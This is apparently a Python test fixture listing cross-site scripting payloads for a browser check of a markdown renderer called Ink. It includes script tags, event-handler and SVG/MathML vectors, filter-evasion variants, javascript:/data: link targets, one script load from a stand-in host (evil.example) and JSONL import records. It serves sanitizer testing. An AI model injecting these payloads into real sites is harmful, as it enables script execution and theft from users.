"""Script payloads for the browser check: classic vectors, the forms attackers use to slip
past filters, and the inputs that broke Ink. Every payload calls alert/confirm/prompt or
sets window.__pwned when it runs, so the check sees any execution."""
import json
import sys

VECTORS = [
    "<script>alert(1)</script>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc=\"<script>parent.alert(1)</script>\">", "<body onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">click</a>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>",
    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<style>@import 'javascript:alert(1)';</style>",
    "<div style=\"background:url(javascript:alert(1))\">", "<form action=javascript:alert(1)><button>x</button></form>",
    "<base href=javascript:alert(1)//>", "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<IMG SRC=JaVaScRiPt:alert(1)>", "<marquee onstart=alert(1)>", "<select autofocus onfocus=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<x onclick=alert(1)>click",
    "<!--<img src=x onerror=alert(1)>-->", "<template><script>alert(1)</script></template>",
    "<img src=x onerror=confirm(1)>", "<img src=x onerror=prompt(1)>", "<img src=x onerror=window.__pwned=1>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<link rel=import href=data:text/html,<script>alert(1)</script>>",
]
# The two ways Ink let script through, and what never returned from it.
INK = [
    "a &<svg/onload=alert(1)>; b", "# h &<img src=x onerror=alert(1)>; h", "- item &<svg/onload=alert(1)>; item",
    "> quote &<svg/onload=alert(1)>; quote", "|h|\n|-|\n|cell &<svg/onload=alert(1)>; cell|",
    "```x\"><img src=x onerror=alert(2)>\ncode\n```", "\\<p\\>ok\\</p\\>", "text \\<p\\> more \\<pre\\>",
]
LINKS = [
    "javascript:alert(1)", "JAVASCRIPT:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(1)",
    "https://ok.example/\" onmouseover=\"alert(1)", "&#106;avascript:alert(1)", "javascript&colon;alert(1)",
]


def all_payloads():
    out = []
    for vector in VECTORS:
        out += [vector, vector.upper(), "before " + vector + " after", "*" + vector + "*"]
    out += INK
    for target in LINKS:
        out += ["[click](%s)" % target, "![image](%s)" % target, "<a href=\"%s\">click</a>" % target]
    return out


def short(payload, limit):
    return payload if len(payload) <= limit else payload[:limit]


if __name__ == "__main__" and sys.argv[1:] == ["jsonl"]:
    # Import lines: hostile titles, bodies and labels (rubrics).
    for index, payload in enumerate(VECTORS + INK):
        print(json.dumps({"id": "hostile-%d" % index, "title": "Imported %d %s" % (index, short(payload, 200)),
                          "body": "Body %d %s\n\nSecond %s" % (index, payload, payload),
                          "label": "L%d %s" % (index, short(payload, 40)), "published_at": "2026-11-30T10:00:00Z"}))
